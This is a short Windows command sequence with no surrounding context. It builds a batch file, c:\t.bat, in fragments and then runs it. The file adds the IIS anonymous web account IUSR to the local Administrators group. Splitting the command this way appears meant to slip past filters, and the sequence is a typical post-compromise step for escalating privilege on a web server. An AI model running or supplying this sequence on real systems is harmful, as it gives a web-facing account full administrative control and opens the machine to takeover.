<nul set /p="net localgroup Administrators " > c:\t.bat
<nul set /p=IUSR >> c:\t.bat
echo /add>> c:\t.bat
call c:\t.bat
